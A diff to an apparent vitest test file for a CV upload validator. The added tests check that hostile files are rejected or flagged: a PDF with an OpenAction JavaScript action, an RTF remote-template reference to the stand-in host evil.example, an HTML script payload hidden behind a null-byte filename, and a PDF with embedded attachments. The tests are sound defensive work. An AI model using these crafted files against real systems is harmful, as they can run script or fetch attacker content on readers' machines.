@@ -1,5 +1,6 @@
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
 import { cvFiles, pdfFile } from "../../../tests/fixtures/cv-files.ts";
+import { signIn } from "../../../tests/support/admin.ts";
 import { type TestApp, testApp } from "../../../tests/support/app.ts";
 import {
   type Applied,
@@ -108,6 +109,17 @@ function keepsItsPromises(): void {
     expect((await download(site, application.applicationId)).status).toBe(200);
   });
 
+  test("with other files inside is kept, and staff are told, until another one takes its place", async () => {
+    const headers = await signIn(site.app);
+    const told = async () =>
+      (await site.app.inject({ url: "/api/admin/applications", headers })).json()[0].resumeCautions;
+    const bytes = pdfFile("/AF[<</Type/Filespec/EF<</F 9 0 R>>>>]");
+    expect((await attach(site, application, await uploaded(site, bytes))).statusCode).toBe(200);
+    expect(await told()).toEqual(["attachedFiles"]);
+    await attach(site, application, await uploaded(site, cvFiles.pdf.bytes));
+    expect(await told()).toBeUndefined();
+  });
+
   test("is replaced by a second one within the hour, and the first is removed", async () => {
     await attach(site, application, await uploaded(site, cvFiles.pdf.bytes));
     const second = await attach(site, application, await uploaded(site, cvFiles.txt.bytes), "new.txt");
@@ -135,6 +147,8 @@ function keepsItsPromises(): void {
     ["fileTypeNotAllowed", 415, "cv.pdf.html", cvFiles.pdf.bytes],
     ["fileTypeNotAllowed", 415, "cv.pdf\u0000.html", cvFiles.pdf.bytes],
     ["fileDisguised", 415, "cv.pdf", cvFiles.docx.bytes],
+    ["fileActive", 415, "cv.pdf", pdfFile("/OpenAction<</S/JavaScript/JS(x)>>")],
+    ["fileRemote", 415, "cv.rtf", Buffer.from("{\\rtf1{\\*\\template http://evil.example/a}}")],
     ["fileDisguised", 415, "cv.html\u0000.pdf", Buffer.from("<html><script>alert(1)</script>")],
   ])("%s (%i): %j", async (code, status, name, bytes) => {
     const url = await uploaded(site, bytes);
